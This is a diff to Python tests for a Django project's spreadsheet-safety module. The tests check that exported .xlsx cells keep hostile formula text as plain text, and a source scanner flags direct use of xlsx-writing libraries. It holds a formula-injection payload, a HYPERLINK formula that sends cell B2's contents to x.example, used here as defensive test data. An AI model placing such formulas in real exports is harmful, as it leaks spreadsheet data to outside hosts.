@@ -17,6 +17,7 @@ from django.db import connection
 from openpyxl.cell import WriteOnlyCell
 
 from hoptac.core import spreadsheet_safety as safety
+from hoptac.core.tests.test_export_injection import xstring
 
 HOSTILE = (
     '=HYPERLINK("http://x.example/?s="&B2,"Xem")',
@@ -148,6 +149,92 @@ def test_xlsx_put_sets_text_as_text():
     assert safety.xlsx_put(book.active, 2, 4, 7).data_type == "n"
 
 
+# --- .xlsx written by XlsxWorkbook (rvgsrust-xlsxwriter) ----------------------------------------
+
+
+def _book_bytes(fill) -> bytes:
+    return safety.xlsx_bytes(fill)
+
+
+@pytest.mark.parametrize("constant_memory", [True, False])
+def test_an_xlsx_workbook_writes_every_text_as_text(constant_memory):
+    def fill(book):
+        sheet = book.add_sheet("Dữ liệu", constant_memory=constant_memory)
+        sheet.write_row(0, [*HOSTILE, -5, Decimal(12), date(2020, 1, 2)], safety.HEADER)
+        sheet.write(1, 0, "=2")
+        sheet.merge(2, 0, 3, "=3")
+        sheet.write_rows(3, [list(HOSTILE), ["@x", date(2021, 5, 6)]], date_columns=frozenset({1}))
+
+    cells = [c for c in _cells(_book_bytes(fill)) if c.value is not None]
+    assert [c for c in cells if c.data_type not in ("s", "n", "d", "b")] == []
+    texts = [xstring(cell.value) for cell in cells if cell.data_type == "s"]
+    assert set(HOSTILE) | {"=2", "=3", "@x"} <= set(texts)  # the text is kept, "\r" and "\t" too
+    assert texts.count("\r=1") == 2
+    numbers = [cell.value for cell in cells if cell.data_type == "n"]
+    assert -5 in numbers
+    assert 12 in numbers
+
+
+def test_xlsx_values_are_typed_and_large_numbers_are_text():
+    def fill(book):
+        sheet = book.add_sheet("a", constant_memory=True)
+        sheet.column(1, num_format=safety.DATE_FORMAT)
+        sheet.column(2, num_format=safety.MONEY_FORMAT)
+        rows = [
+            ["x", date(2015, 3, 15), Decimal(1500000), 2**53, True, 22.25, None],
+            ["y", date(1900, 1, 15), Decimal("1e20"), Decimal("2.5"), False, -1.0, "z"],
+            ["w", None, 7, 3, None, None, date(2020, 2, 29)],  # a date outside a date column
+            ["v", date(1899, 12, 31), None, None, None, None, None],  # Excel has no such date
+        ]
+        assert sheet.write_rows(0, rows, date_columns=frozenset({1})) == 4
+
+    book = openpyxl.load_workbook(io.BytesIO(_book_bytes(fill)))
+    rows = [list(row) for row in book.active.iter_rows()]
+    assert [c.value for c in rows[0]] == [
+        "x", datetime(2015, 3, 15), 1500000, str(2**53), True, 22.25, None,  # noqa: DTZ001
+    ]  # fmt: skip
+    assert rows[0][1].number_format == "dd/mm/yyyy"
+    assert rows[0][2].number_format == "#,##0"
+    assert rows[0][3].data_type == "s"  # beyond 2**53 a number would lose digits
+    assert rows[1][1].value == datetime(1900, 1, 15)  # noqa: DTZ001  (before Excel's 1 March 1900)
+    assert rows[1][1].number_format == "dd/mm/yyyy"
+    assert (rows[1][2].value, rows[1][2].data_type) == ("100000000000000000000", "s")
+    assert rows[1][3].value == 2.5
+    assert rows[2][6].value == datetime(2020, 2, 29)  # noqa: DTZ001
+    assert rows[2][6].number_format == "dd/mm/yyyy"
+    assert (rows[3][1].value, rows[3][1].data_type) == ("31/12/1899", "s")
+
+
+def test_xlsx_sheet_titles_are_made_valid_and_unique():
+    def fill(book):
+        for title in ("Hợp tác xã", "a/b:c", "x" * 40, "Hợp tác xã"):
+            book.add_sheet(title).write(0, 0, title)
+
+    book = openpyxl.load_workbook(io.BytesIO(_book_bytes(fill)))
+    assert book.sheetnames == ["Hợp tác xã", "a b c", "x" * 31, "Hợp tác xã 2"]
+
+
+def test_the_long_list_writer_keeps_memory_for_one_batch():
+    """write_rows reads its rows lazily: a generator of many rows is never held in a list."""
+    consumed = []
+
+    def rows():
+        for number in range(5000):
+            consumed.append(number)
+            yield [f"HTX {number}", number]
+
+    def fill(book):
+        sheet = book.add_sheet("a", constant_memory=True)
+        count = sheet.write_rows(0, rows(), batch=100)
+        assert count == 5000
+
+    data = _book_bytes(fill)
+    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
+    values = list(book.worksheets[0].iter_rows(values_only=True))
+    assert len(values) == 5000
+    assert values[-1] == ("HTX 4999", 4999)
+
+
 # --- PostgreSQL's COPY writes the same marks --------------------------------------------------
 
 
@@ -197,12 +284,20 @@ def _literal(node: ast.AST) -> str:
     return ""
 
 
+WORKBOOK_WRITERS = ("rvgsrust_xlsxwriter", "xlsxwriter", "rustpy_xlsxwriter", "pyexcelerate")
+
+
 def writer_violations(source: str) -> list[str]:
-    """What in `source` makes a spreadsheet without hoptac.core.spreadsheet_safety: an
-    openpyxl Workbook, a csv writer, a COPY … TO STDOUT, or load_workbook not read-only
-    (a workbook opened to be changed and saved)."""
+    """What in `source` makes a spreadsheet without hoptac.core.spreadsheet_safety: any use of
+    an .xlsx writing library (rvgsrust-xlsxwriter, XlsxWriter…), an openpyxl Workbook, a csv
+    writer, a COPY … TO STDOUT, or load_workbook not read-only (a workbook opened to be
+    changed and saved)."""
     found = []
     for node in ast.walk(ast.parse(source)):
+        if isinstance(node, ast.Import | ast.ImportFrom):
+            modules = [node.module or ""] if isinstance(node, ast.ImportFrom) else []
+            modules += [a.name for a in node.names] if isinstance(node, ast.Import) else []
+            found += [f"imports {m}" for m in modules if m.split(".")[0] in WORKBOOK_WRITERS]
         if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
             found += [f"imports {a.name}" for a in node.names if a.name == "Workbook"]
         if isinstance(node, ast.ImportFrom) and node.module == "csv":
@@ -228,6 +323,10 @@ def writer_violations(source: str) -> list[str]:
 @pytest.mark.parametrize(
     "source",
     [
+        "from rvgsrust_xlsxwriter import Workbook",
+        "import rvgsrust_xlsxwriter\nbook = rvgsrust_xlsxwriter.Workbook(p)",
+        "import xlsxwriter",
+        "from xlsxwriter.workbook import Workbook",
         "from openpyxl import Workbook",
         "import openpyxl\nbook = openpyxl.Workbook()",
         "from openpyxl.workbook import Workbook",
@@ -247,6 +346,7 @@ def test_the_scan_passes_reading_and_the_helper():
     assert not writer_violations("import csv\nrows = csv.reader(f)")
     assert not writer_violations("import openpyxl\nopenpyxl.load_workbook(p, read_only=True)")
     assert not writer_violations("from hoptac.core import spreadsheet_safety")
+    assert not writer_violations("from hoptac.core.tabular.writing import write_xlsx")
     assert not writer_violations('"""Written by PostgreSQL: `COPY (SELECT …) TO STDOUT`."""')
 
 
